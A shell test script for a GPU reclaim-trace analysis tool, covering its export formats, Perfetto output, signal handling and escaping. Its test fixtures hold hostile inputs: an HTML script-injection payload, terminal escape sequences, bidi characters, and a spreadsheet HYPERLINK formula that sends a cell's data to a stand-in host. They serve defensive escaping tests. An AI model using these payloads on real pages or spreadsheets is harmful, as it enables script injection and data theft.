sed -i 's/^\(.*\)field:s32 tgid;\toffset:\([0-9]*\);.*/&\n\tfield:u8 mood;\toffset:\2;\tsize:1;\tsigned:0;/' newer/panthor_bo_evict.format
"$OUT/tests/mktrace" -f newer newer.dat <"$S/two-writes.txt"
complains "a newer driver" 0 'newer driver; ignored fields: panthor_bo_evict.mood$' "$PT" report newer.dat

# What later drivers tell besides
make_trace later.dat <<'END'
0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
0 1.001000 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 kind=1 label="a"
0 1.002000 7 panthor_bo_evict_skip id=1 bo_id=3 client_id=2 tgid=8 vm_id=1 size=8192 duration_ns=5 reason=2 lock=3 label="b"
0 1.010000 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=8192 duration_ns=10000000 unwritten=4096 skipped_locked=8192 cut_short=1
0 2.000000 7 panthor_reclaim_begin dev=panthor id=2 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
0 2.001000 7 panthor_bo_evict id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 label="c"
0 2.500000 7 panthor_bo_writeback id=2 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=100000000 duration_ns=400000000
0 2.600000 7 panthor_bo_writeback id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=200000000 duration_ns=400000000
0 2.700000 7 panthor_reclaim_end dev=panthor id=2 target_tgid=8 evicted_bos=1 evicted=4096 written=8192 freed=8192 duration_ns=700000000 writeback_ns=500000000
0 3.000000 7 panthor_reclaim_begin dev=panthor id=3 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
0 3.000010 7 panthor_reclaim_end dev=panthor id=3 target_tgid=8 duration_ns=10000
END
expect "later: a BO that an earlier request evicted is written" 0 '^2500000000,2,"written",1,2100000000,2500000000,0$' \
	"$PT" export -T bos -F csv -f time_ns,id,what,bo_id,writeback_start_ns,writeback_end_ns,writeback_lane later.dat
expect "later: overlapping writes have different lanes" 0 '^2,"evicted",2200000000,2600000000,1,"recorded"$' \
	"$PT" export -T bos -F csv -f bo_id,what,writeback_start_ns,writeback_end_ns,writeback_lane,writeback_when later.dat
expect "later: the lock of a skipped BO" 0 '^"skipped","gpuva","user"$' "$PT" export -T bos -F csv -f what,lock,kind later.dat
expect "later: the kind of a BO" 0 '^"evicted",,"user-nommap"$' "$PT" export -T bos -F csv -f what,lock,kind later.dat
expect "later: unwritten and skipped memory" 0 '^1,4096,8192,' "$PT" export -F csv -f id,unwritten,skipped_locked,cut_short later.dat
expect "later: nothing is inconsistent" 0 '"partial": 0, "mismatch": 0' "$PT" export later.dat
expect "later: the summary has cut short" 0 '^worst #1 .*; cut short: ' "$PT" report --filter id=1 later.dat
expect "a request with nothing to evict" 0 '^worst #3 .*: blocked 10.0 us: nothing to evict$' "$PT" report --filter id=3 later.dat
expect "later: writes do not overlap on a track" 0 'bad: 0$' sh -c "'$PT' export -F chrome later.dat | python3 '$HERE/nesting.py'"

# Escaping: what stands in a label, in every format
make_trace evil.dat <<'END'
0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="\x1b[2J<b>" target_comm="a,\"
0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="</script><script>alert(1)</script>\x1b]0;x\x07\x22,\xff"
0 1.2 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 duration_ns=200000000
END
for f in table json jsonl csv chrome html; do
	"$PT" export -F $f evil.dat >evil.out 2>evil.err || fail "$f of evil labels" "$(cat evil.err)"
	if LC_ALL=C grep -qP '[\x00-\x08\x0b-\x1f\x7f-\x9f]' evil.out && [ $f != html ]; then
		fail "$f: no control characters" "$(cat -v evil.out)"
	elif [ $f = html ] && [ "$(grep -c '<script>alert' evil.out)" -ne 0 ]; then
		fail "html: a label cannot start a script"
	else
		pass "$f: control characters are escaped"
	fi
done
expect "JSON of labels with control characters parses" 0 '^ok$' sh -c "'$PT' export evil.dat | python3 -c 'import json, sys; json.load(sys.stdin); print(\"ok\")'"
expect "Chrome JSON of labels with control characters parses" 0 '^ok$' sh -c "'$PT' export -F chrome evil.dat | python3 -c 'import json, sys; json.load(sys.stdin); print(\"ok\")'"
# Two threads of one process at one VM at the same time, and a worker of the kernel that swaps in for the client
make_trace both.dat <<'END'
comm 7 mgr
comm 9 mgr-worker
comm 30 kworker/u8:2
comm 8 app
0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
0 1.000010 7 panthor_vm_reclaim_begin id=1 client_id=2 tgid=8 vm_id=1 bos=1 size=8192
1 1.000020 9 panthor_reclaim_begin dev=panthor id=2 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
1 1.000030 9 panthor_vm_reclaim_begin id=2 client_id=2 tgid=8 vm_id=1 bos=2 size=8192
0 1.001000 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=a
1 1.001100 9 panthor_bo_evict id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=b
0 1.002000 7 panthor_vm_reclaim_end id=1 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=1900000
1 1.003000 9 panthor_vm_reclaim_end id=2 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=2900000
0 1.008000 7 panthor_bo_writeback id=1 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4000000 duration_ns=4000000
1 1.009000 9 panthor_bo_writeback id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4980000 duration_ns=4000000
0 1.010000 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 written=4096 freed=4096 duration_ns=10000000 writeback_ns=4000000
1 1.011000 9 panthor_reclaim_end dev=panthor id=2 target_tgid=8 evicted_bos=1 evicted=4096 written=4096 freed=4096 duration_ns=10980000 writeback_ns=4000000
0 2.000000 30 panthor_bo_swapin dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 result=0 size=4096 evicted_ns=999000000 duration_ns=3000 evictions=1 label=a
1 2.100000 8 panthor_bo_swapin dev=panthor id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 result=0 size=4096 evicted_ns=1098900000 duration_ns=3000 evictions=1 label=b
END
for f in two golden both reload; do
	expect "$f: Chrome slices nest" 0 'arrows: [1-9][0-9]* spans: [1-9][0-9]* counters: [1-9][0-9]* names: [1-9][0-9]* bad: 0$' sh -c "'$PT' export -F chrome $f.dat | python3 '$HERE/nesting.py'"
done
expect "both: a thread has its own name" 0 '"pid":7,"tid":9,"name":"thread_name","args":\{"name":"mgr-worker"\}' "$PT" export -F chrome both.dat
expect "both: a kernel worker is not a thread of the client" 0 '"pid":30,"tid":30,"dur":3.000,"name":"swap in BO 1 a"' "$PT" export -F chrome both.dat
# pftrace FILE... - exports of these, one behind the other, in words
pftrace()
{
	local f

	for f; do "$PT" export -F perfetto "$f" || return; done >all.pftrace
	protoc --proto_path="$HERE/../report/perfetto" --decode=pftrace.Trace pftrace.proto <all.pftrace
}
tracks() { pftrace "$@" 2>/dev/null | python3 "$HERE/tracks.py"; }

if command -v protoc >/dev/null; then
	for f in two golden both evil reload; do
		# What Chrome JSON has, in which both counters of a client are one event
		want=$("$PT" export -F chrome $f.dat | python3 "$HERE/nesting.py" | sed -n 's/^\(slices: [0-9]* arrows: [0-9]* spans: [0-9]*\) .*/\1/p')
		expect "$f: Perfetto's tracks" 0 "^${want:?} counters: [1-9][0-9]* problems: 0 bad: 0\$" tracks $f.dat
	done
	expect "two concatenated Perfetto files are one" 0 '^slices: 18 arrows: 5 .* bad: 0$' tracks two.dat both.dat
	expect "a Perfetto slice has the name of the request" 0 '^ *name: "reclaim #2 game"$' pftrace two.dat
	expect "a Perfetto slice has shares" 0 '^ *double_value: 86.6$' pftrace two.dat
	expect "a Perfetto track has the name of the thread" 0 '^ *thread_name: "mgr-worker"$' pftrace both.dat
	expect "a Perfetto track has no process name" 0 '!process_name' pftrace both.dat
	expect "a Perfetto slice has the columns" 0 '^ *name: "written"$' pftrace two.dat
	expect "a Perfetto file has the problems" 0 '^problem: "requests without an end event: 1' sh -c "
		grep -v 'reclaim_end dev=panthor id=2' '$HERE/scripts/two-writes.txt' | '$OUT/tests/mktrace' -f '$HERE/formats' open.dat
		'$PT' export -F perfetto -o open.pftrace open.dat 2>/dev/null
		protoc --proto_path='$HERE/../report/perfetto' --decode=pftrace.Trace pftrace.proto <open.pftrace | python3 '$HERE/tracks.py'"
else
	skip "Perfetto's format" "no protoc here"
fi
# The SQL package for Perfetto's own recordings, on the same events
"$PT" export -o two.json two.dat
trace-cmd report -R -t -N -i two.dat >two.raw 2>/dev/null
expect "Perfetto's SQL has the figures of the export" 0 '^bad: 0$' python3 "$HERE/perfettosql.py" "$HERE/../report/perfetto/panthor/reclaim.sql" two.json \
	"$HERE/../model/events.c" <two.raw
complains "a clock other than Perfetto's is reported" 0 'its clock is "local"; .* -C boot' "$PT" export -F perfetto -o x.pftrace golden.dat
expect "a binary format is not written to a terminal" 2 'not written to a terminal' script -qec "'$PT' export -F perfetto two.dat" /dev/null
expect "a binary format is not written to a terminal by name" 2 'not written to a terminal' script -qec "'$PT' export -F perfetto -o /dev/tty two.dat" /dev/null

expect "a CSV of labels with control characters has one record per row" 0 '^\[2, 1\]$' sh -c "'$PT' export -F csv -T bos evil.dat | python3 -c 'import csv, sys; r = list(csv.reader(sys.stdin)); print([len(r), len({len(x) for x in r})])'"

# In a spreadsheet text stays text, and a program gets it back by taking one apostrophe away
make_trace formula.dat <<'END'
0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="-2" target_comm="=1+1"
0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="=HYPERLINK('http://x.test/?'&A1)"
0 1.2 7 panthor_bo_evict_skip id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="'quoted"
0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=4096 duration_ns=300000000
END
expect "a CSV has no formulas" 0 '!(^|,)"?[-=+@]' "$PT" export -F csv -T bos -f label formula.dat
expect "labels are restored from a CSV" 0 "^\\[\"=HYPERLINK\\('http://x.test/\\?'&A1\\)\", \"'quoted\"\\]$" sh -c "'$PT' export -F csv -T bos -f label formula.dat |
	python3 -c 'import csv, json, sys; print(json.dumps([r[0][r[0][:1] == chr(39):] for r in list(csv.reader(sys.stdin))[1:]]))'"

# What the kernel has escaped is not escaped again; what does not show, or turns the text round, is
make_trace esc.dat <<'END'
0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="mgr" target_comm="a\x09b"
0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="say \x5cx22hi\x5cx22"
0 1.2 7 panthor_bo_evict id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="x\xe2\x80\xaey\xf3\xa0\x81\x81\xc2\xad"
0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=2 evicted=8192 duration_ns=300000000
END
expect "table: escaped once" 0 'say \\x22hi\\x22 ' "$PT" report --bos esc.dat
expect "table: bidirectional and invisible characters are escaped" 0 'x\\xE2\\x80\\xAEy\\xF3\\xA0\\x81\\x81\\xC2\\xAD' "$PT" report --bos esc.dat
expect "csv: escaped once" 0 '^"say \\x22hi\\x22"$' "$PT" export -F csv -T bos -f label esc.dat
for f in json jsonl html chrome; do
	expect "$f: escaped once" 0 'say \\\\x22hi\\\\x22"' "$PT" export -F $f esc.dat
done
cp two.dat $'odd\033\nname.dat'
expect "file names in footers are escaped" 0 '^A: odd\\x1B\\x0Aname.dat$' "$PT" diff $'odd\033\nname.dat' two.dat

# Where a write was: of the older driver, one after the other, and it says so
awk '/bo_writeback/ { w[n++] = $0; next }
	/panthor_reclaim_end/ { for (i = 0; i < n; i++) { sub(/^[01] [0-9.]+/, $1 " " $2, w[i]); print w[i] } n = 0 }
	{ print }' "$S/two-writes.txt" | make_trace atend.dat
for f in two golden atend; do
	expect "$f: writes are within their request and do not overlap" 0 '^[1-9][0-9]* writes, bad: 0$' sh -c "'$PT' export $f.dat | python3 -c '
import json, sys
d = json.load(sys.stdin)
begin = {r[\"id\"]: (r[\"time_ns\"], r[\"time_ns\"] + r[\"duration_ns\"]) for r in d[\"requests\"]}
writes = sorted((b[\"id\"], b[\"writeback_lane\"], b[\"writeback_start_ns\"], b[\"writeback_end_ns\"]) for b in d[\"bos\"] if b[\"writeback_start_ns\"])
bad = sum(not begin[w[0]][0] <= w[2] <= w[3] <= begin[w[0]][1] + 100000 for w in writes)
bad += sum(a[:2] == b[:2] and a[3] > b[2] for a, b in zip(writes, writes[1:]))
print(len(writes), \"writes, bad:\", bad)'"
done

# Interrupted, it prints what it has
(cat "$S/two-writes.txt"; echo "noise 0 104 130 3000000") | make_trace long.dat
# How soon it has something depends on the machine.
for delay in 0.3 1 3 9; do
	"$PT" report long.dat >int.out 2>int.err & pid=$!
	sleep $delay
	kill -INT $pid
	wait $pid
	rc=$?
	[ $rc -eq 0 ] || grep -q ' browser ' int.out && break
done
if [ "$rc" -eq 130 ] && grep -q ' browser ' int.out; then
	pass "interrupted: prints the results so far, status 130"
elif [ "$rc" -eq 0 ]; then
	skip "interrupted" "was too quick"
else
	fail "interrupted: prints the results so far, status 130" "status $rc" "$(cat int.out int.err)"
fi

# From a terminal the signal reaches all of its processes, and a slow reader has it all the same
cat >group.py <<-'END'
	import os, signal, subprocess, sys, time
	for delay in (0.3, 0.6, 1.2, 2.4):
	    p = subprocess.Popen(sys.argv[1:], stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
	    time.sleep(delay)
	    os.killpg(p.pid, signal.SIGINT)
	    time.sleep(0.2)
	    out, err = p.communicate()
	    if p.returncode != 0 and out:
	        break
	print(p.returncode == 130, b"rite" not in err, "ends with its footer" if b" in total" in out[-300:] else out[-300:])
END
echo "requests 6000 20" | make_trace slow.dat
expect "interrupted on a terminal with a full pipe" 0 '^True True ends with its footer$' signalled python3 group.py "$PT" report slow.dat

# A reader that goes away is no error, and ends it at once
many_bos 20000 | make_trace heavy.dat
expect "head ends an export" 0 '^0$' bash -c "'$PT' export -T bos -F csv heavy.dat | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
expect "head ends a report" 0 '^0$' bash -c "'$PT' report two.dat | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
end
